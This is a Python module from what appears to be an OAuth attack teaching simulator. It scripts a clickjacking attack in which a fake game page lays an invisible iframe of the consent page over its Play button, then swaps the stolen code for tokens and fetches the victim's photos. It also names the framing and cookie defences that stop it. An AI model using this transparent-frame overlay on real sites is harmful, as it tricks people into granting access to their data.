"""Clickjacking: Ana clicks on a game, and hits the consent page, which lies over it unseen (RFC 9700 §4.16)."""

from __future__ import annotations

from collections.abc import Mapping
from functools import cache

from flask import Flask, Response, request

from app.actors.owner import Owner
from app.actors.pages import problem
from app.actors.places import ACCOUNT, ASKED_SCOPE
from app.attacks import parts
from app.attacks.attack import Attack, Defence
from app.attacks.own_client import OwnClient
from app.attacks.parts import ATTACKER, STEAL
from app.flows.flow import Hosts
from app.flows.parts import log_in_and_consent, start
from app.trace import Phase
from app.wire import Browser, Step, World, here
from app.wire.frames import open_frame

CLIENT = OwnClient("game", "Catch the mouse", ASKED_SCOPE)
GAME = "game"
PAGE = """<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Catch the mouse</title></head><body>
<h1>Catch the mouse</h1><button>Play</button>
<iframe src="{source}" style="position:absolute;top:0;left:0;width:100%;height:100%;opacity:0"></iframe>
</body></html>"""


@cache
def build() -> Flask:
    """The game: a client of the same server, whose maker is the attacker."""
    app = Flask("game", static_folder=None)
    app.add_url_rule("/play", "play", show, methods=["GET"])
    app.add_url_rule("/cb", "callback", use, methods=["GET"])
    return app


def show() -> Response:
    """A button, and over it a frame that nobody sees, in which the server is asked for the photos."""
    source = CLIENT.authorization_request(here()).replace("&", "&amp;")
    return Response(PAGE.format(source=source), 200, content_type="text/html; charset=utf-8")


def use() -> Response:
    """Swap the code that came through the frame, and fetch the photos."""
    tokens = CLIENT.tokens_for(here(), request.args.get("code", ""))
    parts.fetch_photos(here().actor(ATTACKER), str(tokens.get("access_token", "")))
    return problem("Missed", "The mouse got away.", 200)


def hosts(_: Mapping[str, str]) -> Hosts:
    """The game's site."""
    return {CLIENT.origin: (ATTACKER, build())}


def script(world: World) -> None:
    """Ana has logged in for her prints; then she plays, and her click goes to what lies on top."""
    owner, browser = Owner(world), Browser(world)
    start(world, owner, browser)
    log_in_and_consent(owner, browser)
    browser.open(f"{CLIENT.origin}/play", owner.follows_link("link", "to play a game").cause)
    frames = [open_frame(browser, source) for source in browser.page.frames]
    clicked = owner.clicks("click", "Play")
    for frame in frames:
        consent = frame.page.form("/consent")
        if consent is not None:
            frame.submit(consent, {"decision": "allow"}, clicked.cause)


ATTACK = Attack(
    id="clickjacking",
    title="Clickjacking of the consent",
    spec=("RFC 9700 §4.16", "RFC 6819 §4.4.1.9", "RFC 6749 §10.13"),
    flows=("authorization_code",),
    aim="Ana allows a client to see her photos, and does not know that she does.",
    goal=lambda trace: parts.answered(
        trace,
        "game_photos",
        "The game has Ana's photos: her click on Play was one on Allow.",
        parts.shows_photos_of(ACCOUNT),
    ),
    needs={"client.type": "confidential"},
    weak={"as.frame_ancestors": "unset", "as.session_cookie": "everywhere"},
    stops=(
        Defence(
            switch="as.frame_ancestors",
            value="none",
            who="browser",
            sentence="The page says that nobody may frame it: her browser fetches it and does not show it.",
        ),
        Defence(
            switch="as.session_cookie",
            value="own_pages",
            who="browser",
            sentence="The cookie of her login does not go along into the frame: nobody is signed in there.",
        ),
    ),
    promised={"rfc9700": "RFC 9700 §4.16", "oauth-2.1": "OAuth 2.1 §7.11"},
    lanes=(parts.thief(CLIENT.name, "malicious client"),),
    steps=(
        Step("link", "owner", "browser", "act", "", GAME, "Ana follows a link"),
        Step("game", "browser", ATTACKER, "GET", "/play", GAME, "Open the game"),
        Step("framed", "browser", "as", "GET", "/authorize", GAME, "Ask in a frame that nobody sees", after="game"),
        Step("framed_login", "browser", "as", "GET", "/login", GAME, "Fetch the login page", after="framed"),
        Step("framed_consent", "browser", "as", "GET", "/consent", GAME, "Fetch the consent page", after="framed"),
        Step("click", "owner", "browser", "act", "", GAME, "Ana clicks on Play"),
        Step("allowed", "browser", "as", "POST", "/consent", GAME, "Allow it", after="click"),
        Step("game_callback", "browser", ATTACKER, "GET", "/cb", STEAL, "Bring the answer to the game"),
        Step("game_token", ATTACKER, "as", "POST", "/token", STEAL, "The game swaps the code"),
        Step("game_photos", ATTACKER, "rs", "GET", "/photos", STEAL, "The game fetches the photos"),
    ),
    phases=(Phase(GAME, "Play a game"), parts.STEALING),
    hosts=hosts,
    prepare=CLIENT.register,
    script=script,
    victim="Ana sees a game with a button, and clicks on it. No page of Accounts comes up.",
    attacker="He cannot forge her consent, which takes a token of the page. So he has her give it on the page itself.",
    remains="A window of its own that pops up under the pointer between two clicks: no frame, and nothing to forbid.",
)
